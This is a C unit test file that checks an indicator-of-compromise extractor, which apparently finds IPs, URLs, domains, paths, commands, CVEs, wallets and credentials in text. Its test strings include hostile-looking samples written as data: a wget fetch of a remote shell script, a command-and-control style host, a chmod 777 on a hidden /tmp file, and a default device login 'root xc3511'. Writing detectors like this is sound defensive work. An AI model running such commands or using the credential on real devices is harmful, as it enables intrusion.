/* SPDX-License-Identifier: MIT */
#include "unit/cmocka.h"

#include <stdio.h>
#include <string.h>

#include "base/buffer.h"
#include "static/indicator.h"

/* "type value:port@offset" of every hit, with a * behind common ones. */
static void note(const struct indicator_hit *hit, void *data)
{
	struct buffer *out = data;

	buffer_printf(out, "%s%s ", out->size ? "|" : "",
		      model_value_name(&values_static_find, (unsigned)hit->type));
	buffer_append(out, hit->value.data, hit->value.size);
	if (hit->port)
		buffer_printf(out, ":%u", hit->port);
	buffer_printf(out, "@%zu%s", hit->offset, hit->is_common ? "*" : "");
}

static void expect(const char *text, const char *hits)
{
	cleanup_buffer struct buffer out = {0};
	struct keyword_index index;

	keyword_index_init(&index);
	indicators_find(&index, span_text(text), note, &out);
	assert_string_equal(buffer_text(&out), hits);
}

static void addresses_with_ports_are_found(void **state UNUSED)
{
	expect("connect to 198.51.100.7:4444 now", "ipv4 198.51.100.7:4444@11");
	expect("127.0.0.1", "ipv4 127.0.0.1@0*");
	expect("libfoo-1.2.3.4.so", "");
	expect("v10.20.30.40", "");
	expect("[2001:db8::7]", "ipv6 2001:db8::7@1");
	expect("std::vector a::b 12:34:56 ::", "");
}

static void urls_hosts_and_mail_are_found(void **state UNUSED)
{
	expect("wget http://203.0.113.9:8080/a.sh;", "command wget http://203.0.113.9:8080/a.sh;@0|"
						     "ipv4 203.0.113.9:8080@12|"
						     "url http://203.0.113.9:8080/a.sh@5");
	expect("see https://www.gnu.org/licenses/.", "domain www.gnu.org@12*|"
						     "url https://www.gnu.org/licenses/@4*");
	expect("cnc.evilhost.net:23", "domain cnc.evilhost.net:23@0");
	expect("mail boss@evil-corp.ru today", "email boss@evil-corp.ru@5");
	expect("memcpy@GLIBC_2.14 x@y", "");
	expect("stdin.fmt lib.rs main.c", "");
}

static void paths_commands_and_the_rest_are_found(void **state UNUSED)
{
	expect("/etc/cron.d/x", "path /etc/cron.d/x@0");
	expect("a=/tmp/.x; chmod 777 /tmp/.x",
	       "path /tmp/.x@2|command a=/tmp/.x; chmod 777 /tmp/.x@0|path /tmp/.x@21");
	expect("fix CVE-2017-17215 soon", "cve CVE-2017-17215@4");
	expect("CVE-none", "");
	expect("Mozilla/5.0 (X11)", "user_agent Mozilla/5.0 (X11)@0");
	expect("pay 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
	       "wallet 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa@4");
	expect("root xc3511", "credential xc3511@5");
}

static void long_lines_are_read_in_time_that_grows_with_them(void **state UNUSED)
{
	enum { SIZE = 1 << 20 };
	cleanup_free char *text = malloc(SIZE + 1);
	static const char patterns[] = ".:@/a-1";
	struct keyword_index index;

	keyword_index_init(&index);
	for (size_t i = 0; patterns[i]; i++) {
		cleanup_buffer struct buffer out = {0};
		memset(text, patterns[i], SIZE);
		indicators_find(&index, span_of(text, SIZE), note, &out);
	}
	for (size_t i = 0; i < SIZE; i++)
		text[i] = i % 2 ? '.' : 'a';
	cleanup_buffer struct buffer out = {0};
	indicators_find(&index, span_of(text, SIZE), note, &out);
	assert_int_equal(out.size, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(addresses_with_ports_are_found),
		cmocka_unit_test(urls_hosts_and_mail_are_found),
		cmocka_unit_test(paths_commands_and_the_rest_are_found),
		cmocka_unit_test(long_lines_are_read_in_time_that_grows_with_them),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
